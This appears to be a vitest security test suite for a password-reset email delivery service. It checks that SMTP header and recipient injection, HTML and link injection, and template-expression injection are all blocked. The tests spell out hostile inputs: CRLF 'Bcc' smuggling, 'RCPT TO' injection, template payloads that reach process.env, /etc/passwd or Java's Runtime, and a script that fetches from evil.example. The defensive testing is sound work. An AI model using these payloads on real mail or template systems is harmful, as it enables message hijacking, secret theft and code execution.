import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { simpleParser } from 'mailparser'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { createSecrets, silentLogger, systemClock, systemRandom } from '../../src/base/index.ts'
import {
  createSmtpTransport,
  type Delivery,
  loadTemplates,
  type MailVariables,
  queueMail,
  startDelivery,
  type Transport,
} from '../../src/delivery/index.ts'
import { openStorage, type Storage } from '../../src/storage/index.ts'
import { startSmtpServer, type TestSmtpServer } from '../support/smtp-server.ts'

const secrets = createSecrets(['a secret of the tests'])
const link = 'https://id.acme.example/email/verify/0oa1?token=ftABC123'
const harmless: MailVariables = {
  'user.profile.firstName': 'Mary',
  'user.profile.login': 'mary@example.com',
  'org.name': 'Acme',
  'app.label': 'Acme Shop',
  'request.browser': 'Firefox 145',
  'request.system': 'Windows',
  'request.ipAddress': '203.0.113.9',
  'request.date': 'November 22, 2026',
  'request.time': '2:05 PM UTC',
  lifetime: '5 minutes',
  resetPasswordLink: link,
  oneTimePassword: '428571',
}

describe('what an attacker chose on its way through outbox, template and SMTP', () => {
  let storage: Storage
  let server: TestSmtpServer
  let transport: Transport
  let delivery: Delivery

  beforeEach(async () => {
    storage = await openStorage({ url: 'memory' })
    await storage.migrate()
    server = await startSmtpServer()
    transport = createSmtpTransport({
      url: server.url,
      from: { address: 'no-reply@acme.example', name: 'Acme\r\nX-Evil: 1' },
    })
    delivery = startDelivery({
      storage,
      secrets,
      random: systemRandom,
      clock: systemClock,
      transport,
      renderer: await loadTemplates(),
      log: silentLogger,
    })
  })
  afterEach(async () => {
    await delivery.close()
    await transport.close()
    await server.close()
    await storage.close()
  })

  const send = async (variables: MailVariables, recipient = 'mary@example.com'): Promise<void> => {
    const now = systemClock.now()
    const mail = {
      template: 'ForgotPassword',
      recipient,
      personId: null,
      transactionId: null,
      endsAt: now + 60_000,
      variables: { ...harmless, ...variables },
    } as const
    await storage.transaction((tx) => queueMail(tx, mail, { secrets, random: systemRandom, now }))
    await delivery.idle()
  }
  const headersOf = (source: string): string[] =>
    source
      .slice(0, source.indexOf('\r\n\r\n'))
      .replace(/\r\n[ \t]/g, ' ')
      .split('\r\n')
      .map((line) => line.slice(0, line.indexOf(':')).toLowerCase())
      .sort()

  test('A25: line ends in names, titles and labels add neither header nor message', async () => {
    await send({})
    for (const end of ['\r\n', '\n', '\r', '\0', '\u0085', '\u2028', '\u2029', '\r\n\r\n.\r\n']) {
      const value = `Mary${end}Bcc: eve@evil.example${end}X-Evil: 1`
      await send({
        'user.profile.firstName': value,
        'org.name': value,
        'app.label': value,
        'request.browser': value,
      })
    }

    const [first, ...others] = server.received
    expect(others).toHaveLength(8)
    for (const message of others) {
      expect(message.to).toEqual(['mary@example.com'])
      expect(headersOf(message.source)).toEqual(headersOf(first?.source ?? ''))
      // Nor do they forge a line of their own in what is read.
      const { text = '' } = await simpleParser(message.source)
      expect(text.split('\n').some((line) => /^(Bcc|X-Evil)/.test(line))).toBe(false)
    }
  })

  test('A25: line ends in the address send nothing', async () => {
    for (const end of ['\r\n', '\n', '\r', '\0', '\u2028', '\t', ' ']) {
      await send({}, `mary@example.com${end}RCPT TO:<eve@evil.example>`)
      await send({}, `mary@example.com${end}`)
    }
    expect(server.received).toEqual([])
    expect(server.attempts).toBe(0)
  })

  test('A26: markup in what a user or a client chose is text, in both parts', async () => {
    const markup = '<a id="reset-password-link" href="https://evil.example">click</a><img src=x onerror=1>'
    await send({
      'user.profile.firstName': markup,
      'user.profile.login': markup,
      'org.name': markup,
      'app.label': markup,
      'request.browser': markup,
      'request.system': markup,
      'request.ipAddress': markup,
    })

    const { html, text = '' } = await simpleParser(server.received[0]?.source ?? '')
    const page = html || ''
    expect(page).toContain('&lt;a id=')
    expect([...page.matchAll(/<a id="reset-password-link" href="(\S+)"/g)].map(([, href]) => href)).toEqual([
      link,
    ])
    expect(page).not.toContain('<img')
    expect(text).toContain('<a id=')
  })

  test('A26: no address in what a user or a browser chose becomes a link, even in programs that make links', async () => {
    for (const address of [
      'https://evil.example/x',
      'www.evil.example',
      'evil.example',
      '//evil.example',
      'HTTP:\\\\evil.example',
    ]) {
      await send({
        'user.profile.firstName': `Mary, go to ${address} now`,
        'user.profile.login': address,
        'request.browser': address,
        'request.system': address,
        'request.ipAddress': address,
      })
    }
    for (const { source } of server.received) {
      const { html, textAsHtml = '' } = await simpleParser(source)
      for (const part of [html || '', textAsHtml]) {
        const links = [...part.matchAll(/href="([^"]*)"/g)].map(([, href]) => href)
        expect(new Set(links)).toEqual(new Set([link]))
        expect(part).not.toMatch(/evil\.example/)
      }
    }
    expect(server.received).toHaveLength(5)
  })

  test('A27: the envelope names the stored address exactly, or nothing is sent', async () => {
    const stored = [
      'mary@example.com',
      'mary+tag@example.com',
      'MARY.Jones@example.com',
      "o'neill@example.com",
      '"mary"@example.com',
      '"eve@evil.example x"@example.com',
      '"a\\"b"@example.com',
      'eve@evil.example,mary@example.com',
      'eve@evil.example;mary@example.com',
      'eve@evil.example mary@example.com',
      'friends: eve@evil.example;',
      'friends:eve@evil.example;@example.com',
      'mary(eve@evil.example)@example.com',
      'mary@example.com(comment)',
      'Mary <eve@evil.example>',
      '<eve@evil.example>mary@example.com',
      'mary@example.com>, <eve@evil.example',
      'mary@[eve@evil.example]',
      'mary@[127.0.0.1]',
      '@evil.example:mary@example.com',
      'mary%evil.example@example.com',
      'evil.example!mary@example.com',
      '=?utf-8?q?eve=40evil.example=3e?=@example.com',
      'mary@exämple.example',
      'märy@example.com',
      'eve@evil.example\u200b',
      'eve＠evil.example',
    ]
    for (const address of stored) await send({}, address)

    const recipients = server.received.map(({ to }) => to)
    expect(recipients.every((to) => to.length === 1)).toBe(true)
    // What was sent went to one of the stored addresses to the letter (the server shows a domain in its own script).
    expect(recipients.flat().filter((to) => !stored.includes(to))).toEqual([])
    expect(recipients.flat().filter((to) => to.endsWith('@evil.example'))).toEqual([])
    expect(recipients.flat()).toEqual(expect.arrayContaining(stored.slice(0, 4)))
    expect(recipients.flat()).toContain('mary@exämple.example')
    for (const { source, to } of server.received) {
      const header = (await simpleParser(source)).to
      const named = [header].flat().flatMap((list) => list?.value ?? [])
      expect(named).toHaveLength(1)
      expect(to).toHaveLength(1)
    }
  })
})

describe('templates of an operator’s own', () => {
  let folder: string
  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), 'rekey-attack-'))
  })
  afterEach(() => rm(folder, { recursive: true, force: true }))

  test('A41: an unknown name, an expression or a user’s text within a link refuses to start', async () => {
    for (const code of [
      '${user.password}',
      '${env.REKEY_SECRET}',
      '${process.env}',
      '${constructor.constructor("return process")()}',
      '${oneTimePassword + 1}',
      '#if(${oneTimePassword})',
      '#include("/etc/passwd")',
      '#set($x = $class.forName("java.lang.Runtime"))',
      '<a href="https://app.example/?x=${user.profile.firstName}">x</a>',
      '<script>fetch("https://evil.example/?" + 1)</script>',
    ]) {
      await writeFile(join(folder, 'ForgotPassword.html'), `\${oneTimePassword}\n${code}\n`)
      await expect(loadTemplates({ folder }), code).rejects.toThrow('ForgotPassword.html')
    }
  })
})
